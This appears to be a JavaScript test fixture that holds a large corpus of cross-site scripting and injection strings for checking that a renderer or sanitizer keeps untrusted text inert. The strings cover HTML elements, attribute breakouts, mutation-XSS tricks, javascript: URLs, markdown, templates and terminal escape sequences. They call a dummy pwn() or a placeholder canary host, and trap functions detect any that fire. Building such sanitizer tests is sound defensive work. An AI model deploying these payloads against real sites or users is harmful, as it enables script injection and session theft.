// Owns what strangers may try to have run in the browser: texts of our own making that call `pwn()` or ask CANARY for
// something when anything takes them for more than text.

export const CANARY = "https://canary.invalid";

const ELEMENTS = [
  "<script>pwn()</script>",
  "<script src=CANARY/s.js></script>",
  "<img src=x onerror=pwn()>",
  "<img src=CANARY/i.png>",
  "<img srcset='CANARY/i.png 1x' src=x>",
  "<svg onload=pwn()>",
  "<svg><script>pwn()</script></svg>",
  "<svg><animate onbegin=pwn() attributeName=x dur=1s>",
  "<svg><set attributeName=onmouseover to=pwn()>",
  "<svg><use href='data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg onload=pwn()/>#x'></svg>",
  "<svg><a xlink:href='javascript:pwn()'><text y=20>x</text></a></svg>",
  "<svg><foreignObject><img src=x onerror=pwn()></foreignObject></svg>",
  "<math><mi xlink:href='javascript:pwn()'>x</mi></math>",
  "<iframe src=javascript:parent.pwn()></iframe>",
  "<iframe srcdoc='<script>parent.pwn()</script>'></iframe>",
  "<iframe src=CANARY/f></iframe>",
  "<object data=javascript:pwn()></object>",
  "<object data=CANARY/o></object>",
  "<embed src=CANARY/e>",
  "<video><source onerror=pwn()></video>",
  "<video poster=CANARY/v.png></video>",
  "<audio src=x onerror=pwn()>",
  "<details open ontoggle=pwn()>x</details>",
  "<input autofocus onfocus=pwn()>",
  "<textarea autofocus onfocus=pwn()>",
  "<select autofocus onfocus=pwn()>",
  "<body onload=pwn()>",
  "<marquee onstart=pwn()>x</marquee>",
  "<style>@import 'CANARY/c.css';</style>",
  "<style>*{background:url(CANARY/b.png)}</style>",
  "<style onload=pwn()></style>",
  "<link rel=stylesheet href=CANARY/l.css>",
  "<link rel=prefetch href=CANARY/p>",
  "<link rel=preload as=image href=CANARY/p.png onload=pwn()>",
  "<meta http-equiv=refresh content='0;url=CANARY/m'>",
  "<base href=CANARY/>",
  "<form action=CANARY/f><button autofocus onfocus=pwn()>x</button></form>",
  "<button popovertarget=x>x</button><div id=x popover onbeforetoggle=pwn()>",
  "<div style='background:url(CANARY/d.png)'>x</div>",
  "<div style=animation-name:x onanimationstart=pwn()>x</div>",
  "<div contenteditable autofocus onfocus=pwn()>x</div>",
  "<div onpointerenter=pwn() style=position:fixed;inset:0>x</div>",
  "<template shadowrootmode=open><img src=x onerror=pwn()></template>",
  "<custom-x onconnected=pwn()>",
  "<isindex type=image src=CANARY/x onerror=pwn()>",
  "<frameset onload=pwn()>",
  "<table background=CANARY/t.png>",
  "<img src=x onerror=\\u0070wn()>",
  "<img/src=x/onerror=pwn()>",
  "<img src=x onerror\n=\npwn()>",
  "<IMG SRC=x ONERROR=pwn()>",
  "<img src=x onerror=&#112;wn()>",
  "<img src=`x`onerror=pwn()>",
  "<scr<script>ipt>pwn()</scr</script>ipt>",
  "<<script>pwn()//<</script>",
  "<script\t>pwn()</script\t>",
  "%3Cscript%3Epwn()%3C/script%3E",
  "&lt;script&gt;pwn()&lt;/script&gt;",
  "&#60;img src=x onerror=pwn()&#62;",
  "\\u003cimg src=x onerror=pwn()\\u003e",
];
const BREAKOUTS = [
  "\"><img src=x onerror=pwn()>",
  "'><img src=x onerror=pwn()>",
  "\" onmouseover=pwn() autofocus onfocus=pwn() x=\"",
  "' onmouseover=pwn() autofocus onfocus=pwn() x='",
  "` onfocus=pwn() autofocus `",
  "</script><script>pwn()</script>",
  "</title><script>pwn()</script>",
  "</textarea><img src=x onerror=pwn()>",
  "</style><img src=x onerror=pwn()>",
  "--><img src=x onerror=pwn()>",
  "]]><img src=x onerror=pwn()>",
  "\\\"-pwn()-\\\"",
  "';pwn();//",
  "\";pwn();//",
  "`;pwn();//",
  "*/pwn()/*",
  "}});pwn();//",
  "\u2028pwn()//",
];
// What is parsed once, written out and parsed again may mean something else the second time.
const MUTATIONS = [
  "<noscript><p title=\"</noscript><img src=x onerror=pwn()>\">",
  "<svg></p><style><a id=\"</style><img src=x onerror=pwn()>\">",
  "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=x onerror=pwn()&gt;\">",
  "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=pwn()>",
  "<listing>&lt;img src=x onerror=pwn()&gt;</listing>",
  "<xmp><img src=x onerror=pwn()></xmp>",
  "<svg><desc><title><style></title><img src=x onerror=pwn()>",
  "<select><template><img src=x onerror=pwn()></template></select>",
  "<a title=\"&quot;><img src=x onerror=pwn()>\">x</a>",
  "<!--><img src=x onerror=pwn()>-->",
];
const ADDRESSES = [
  "javascript:pwn()",
  "JaVaScRiPt:pwn()",
  "java\tscript:pwn()",
  "\u0001javascript:pwn()",
  "javascript://x/%0apwn()",
  "data:text/html,<script>opener.pwn()</script>",
  "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='pwn()'/>",
  "vbscript:pwn()",
  "blob:CANARY/x",
  "//canary.invalid/x",
  "\\\\canary.invalid\\x",
  "https:canary.invalid",
  "view-source:CANARY",
];
const MARKDOWN = [
  "[x](javascript:pwn())",
  "[x](JAVASCRIPT:pwn())",
  "[x](&#106;avascript:pwn())",
  "[x](data:text/html;base64,PHNjcmlwdD5wd24oKTwvc2NyaXB0Pg==)",
  "[x](//canary.invalid/x)",
  "![x](CANARY/i.png)",
  "![x](x\" onerror=\"pwn())",
  "[![x](CANARY/j.png)](javascript:pwn())",
  "[x]: javascript:pwn()\n\n[x]",
  "![x][y]\n\n[y]: CANARY/q.png",
  "<javascript:pwn()>",
  "```html\n<img src=x onerror=pwn()>\n```",
  "``` \"><img src=x onerror=pwn()>\nx\n```",
  "| <img src=x onerror=pwn()> |\n|---|\n| <svg onload=pwn()> |",
  "- [ ] <input autofocus onfocus=pwn()>",
  "[^1]\n\n[^1]: <img src=x onerror=pwn()>",
  "$\\href{javascript:pwn()}{x}$",
];
const TEMPLATES = ["{{constructor.constructor('pwn()')()}}", "${pwn()}", "#{pwn()}", "<%= pwn() %>", "{%raw%}<img src=x onerror=pwn()>", "[[pwn()]]", "{dangerouslySetInnerHTML:{__html:'<img src=x onerror=pwn()>'}}", "{\"__html\":\"<img src=x onerror=pwn()>\"}", "__proto__", "constructor"];
const TERMINAL = [
  "\u001b]8;;javascript:pwn()\u0007x\u001b]8;;\u0007",
  "\u001b]8;;CANARY/o\u001b\\x\u001b]8;;\u001b\\",
  "\u001b]0;<img src=x onerror=pwn()>\u0007",
  "\u001b]52;c;cHduKCk=\u0007",
  "\u001b[31m<img src=x onerror=pwn()>\u001b[0m",
  "\u001b[38;2;<svg onload=pwn()>m",
  "\u001b[31;\"onmouseover=pwn()//mx",
  "<im\u001b[0mg src=x onerror=pwn()>",
  "\u001bP<script>pwn()</script>\u001b\\",
  "\u009b31m<img src=x onerror=pwn()>",
  "\u202e<gpj.x=crs gmi>\u202c",
  "<img\u0000src=x onerror=pwn()>",
  "x\r<img src=x onerror=pwn()>",
  "\u0008\u0008\u0008<svg/onload=pwn()>",
  "\u2066</span><img src=x onerror=pwn()>\u2069",
  "\ufeff<script>pwn()</script>",
];

export const CORPUS = [...ELEMENTS, ...BREAKOUTS, ...MUTATIONS, ...ADDRESSES, ...MARKDOWN, ...TEMPLATES, ...TERMINAL].map((one) => one.replaceAll("CANARY", CANARY));

/** Sets traps before a page's own scripts run. Whatever springs one is in `window.sprung`, in every frame. */
export function traps() {
  window.sprung = [];
  const spring = (what) => window.sprung.push(what);
  window.pwn = () => spring("pwn");
  for (const name of ["alert", "confirm", "prompt", "print"]) window[name] = () => spring(name);
  document.addEventListener("securitypolicyviolation", (event) => spring(`${event.violatedDirective} ${event.blockedURI}`));
}

/** In the page: everything on it that would be more than text if a corpus text had been taken for more. */
export function more() {
  // A plain link to somewhere else is for a person to follow or not; what is loaded by itself is seen by its element.
  const own = (value) => /^(https?:\/\/|\/(?![/\\])|#|blob:http)/i.test(value);
  const found = [...document.querySelectorAll("img, iframe, object, embed, video, audio, base, math, frameset, marquee, foreignObject, animate, set, template, form[action], meta[http-equiv], link, script")].filter((one) => !(one.matches("link, script") && new URL(one.href ?? one.src, location.href).origin === location.origin && (one.href || one.src))).map((one) => one.outerHTML.slice(0, 120));
  for (const one of document.querySelectorAll("*")) {
    for (const { name, value } of one.attributes) {
      if (/^on/i.test(name) || /^srcdoc$/i.test(name)) found.push(`${one.tagName} ${name}=${value}`);
      if (/^(href|src|action|formaction|xlink:href|poster|data)$/i.test(name) && value !== "" && !own(value)) found.push(`${one.tagName} ${name}=${value}`);
      if (name === "style" && /url\(|expression|canary/i.test(value)) found.push(`${one.tagName} ${name}=${value}`);
    }
  }
  return found;
}
